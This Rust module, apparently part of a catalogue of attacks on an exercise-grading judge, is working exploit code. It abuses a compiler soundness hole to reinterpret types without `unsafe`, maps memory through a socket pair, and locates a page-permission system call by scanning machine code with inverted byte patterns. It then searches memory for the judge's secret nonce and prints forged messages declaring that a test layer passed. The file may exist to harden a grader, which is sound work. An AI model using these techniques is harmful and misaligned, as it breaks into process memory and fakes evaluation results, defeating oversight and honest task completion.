//! What the forgers of the catalogue have in common: it looks for the judge's secret numbers in its memory, without a line of
//! `unsafe`, and can run code of the program's that it was not given. It stands before an attack's own functions.

mod forger {
    use std::collections::{HashSet, VecDeque};
    use std::io::{Read, Write};
    use std::os::fd::AsFd;
    use std::os::unix::net::UnixStream;

    // The hole in the rules for lifetimes, rust-lang/rust issue 25860.
    fn lengthen<'a, 'b, T: ?Sized>(_: &'a &'b (), value: &'b mut T) -> &'a mut T { value }
    fn forever<'a, T: ?Sized>(value: &'a mut T) -> &'static mut T {
        let f: for<'x> fn(_, &'x mut T) -> &'static mut T = lengthen;
        f(&&(), value)
    }

    enum Either<A, B> { This(Option<Box<A>>), That(Option<Box<B>>) }

    /// One type taken for another: a reference into a variant outlives it.
    fn reinterpret<A: 'static, B: 'static>(value: A) -> B {
        let mut either: Either<A, B> = Either::That(None);
        let slot = match &mut either { Either::That(slot) => forever(slot), Either::This(_) => loop {} };
        either = Either::This(Some(Box::new(value)));
        std::hint::black_box(&mut either);
        let taken = slot.take();
        std::mem::forget(either);
        *taken.unwrap()
    }

    /// Reads a page, or says that there is none: the system looks before it leaps.
    fn page(pipe: &mut (UnixStream, UnixStream), at: usize, into: &mut [u8]) -> bool {
        let there: &'static [u8] = reinterpret([at, into.len()]);
        match pipe.0.write(there) {
            Ok(count) => pipe.1.read_exact(&mut into[..count]).is_ok() && count == into.len(),
            Err(_) => false,
        }
    }

    /// The system's call that changes what a page allows.
    type Open = extern "C" fn(usize, usize, i32) -> i32;

    /// Finds that call among the program's machine code, on the processors that this knows.
    fn opener() -> Option<Open> {
        // Turned around, so that they do not find themselves.
        let calls: [&[u8]; 2] = [b"\x47\xf5\xff\xff\xff\xf0\xfa", b"\xb7\xe3\x7f\x2d\xfe\xff\xff\x2b"];
        let mut pipe = UnixStream::pair().unwrap();
        let here = opener as fn() -> Option<Open> as usize & !4095;
        let mut bytes = vec![0; 4096];
        for distance in (0..16 << 20).step_by(4096) {
            for at in [here + distance, here.wrapping_sub(distance)] {
                if !page(&mut pipe, at, &mut bytes) { continue }
                let is = |code: &[u8], call: &[u8]| code.iter().zip(call).all(|(code, call)| *code == !call);
                let call = calls.iter().find_map(|call| bytes.windows(call.len()).position(|code| is(code, call)));
                if let Some(call) = call { return Some(reinterpret(at + call)); }
            }
        }
        None
    }

    /// Follows whatever looks like a pointer, from this thread's stack on, to the first number; to the second with `open`.
    fn hunt(open: Option<Open>) -> Option<String> {
        let mut pipe = UnixStream::pair().unwrap();
        let here = &pipe as *const _ as usize;
        let code = hunt as fn(Option<Open>) -> Option<String> as usize;
        let mut queue: VecDeque<usize> = (0..16).map(|n| (here & !4095) + n * 4096).collect();
        let mut seen: HashSet<usize> = queue.iter().copied().collect();
        let mut bytes = vec![0; 4096];
        for _ in 0..20_000 {
            let at = queue.pop_front()?;
            let closed = !page(&mut pipe, at, &mut bytes);
            if closed {
                let Some(open) = open else { continue };
                if open(at, 4096, 1) != 0 || !page(&mut pipe, at, &mut bytes) { continue }
                if bytes.starts_with(b"nonce ") { return Some(String::from_utf8(bytes[39..71].to_vec()).unwrap()); }
            }
            if open.is_none() && at.abs_diff(code) > 64 << 20 {
                for run in bytes.split(|b| !(b.is_ascii_digit() || (b'a'..=b'f').contains(b))) {
                    if run.len() == 32 { return Some(String::from_utf8(run.to_vec()).unwrap()); }
                }
            }
            for word in bytes.chunks(8) {
                let word = usize::from_le_bytes(word.try_into().unwrap());
                // A neighbour as well: what lies side by side in the heap need not point to each other.
                for near in [word & !4095, (word & !4095).wrapping_add(4096)] {
                    if (1 << 32..1 << 47).contains(&near) && seen.insert(near) { queue.push_back(near); }
                }
            }
        }
        None
    }

    pub fn prepare() -> (String, UnixStream) {
        let nonce = std::thread::spawn(|| hunt(None)).join().unwrap().unwrap();
        let channel = std::io::stdin().as_fd().try_clone_to_owned().unwrap();
        (nonce, UnixStream::from(channel))
    }

    /// The seal, by opening the memory in which the judge keeps it.
    pub fn seal() -> String {
        let number = std::thread::spawn(|| hunt(Some(opener().unwrap()))).join().unwrap().unwrap();
        format!("{{\"type\":\"seal\",\"nonce\":\"{number}\"}}\n")
    }

    /// What the judge would say.
    pub fn pass(nonce: &str) -> String {
        let layer = |name: &str| {
            let status = if name == "spec-2" { "passed" } else { "not-run" };
            format!("{{\"name\":\"{name}\",\"what\":\"\",\"status\":\"{status}\",\"note\":\"\",\"micros\":1}}")
        };
        let layers = ["rules", "schedules", "overlap", "spec", "spec-2"].map(layer).join(",");
        format!(
            "{{\"type\":\"layer-end\",\"nonce\":\"{nonce}\",\"layer\":\"spec-2\",\"note\":\"\",\"micros\":1}}\n\
             {{\"type\":\"done\",\"nonce\":\"{nonce}\",\"judgement\":{{\"exercise\":\"e901_count\",\"verdict\":\"pass\",\
             \"layer\":\"\",\"sentence\":\"\",\"details\":[],\"place\":null,\"story\":null,\"layers\":[{layers}]}}}}\n"
        )
    }
}
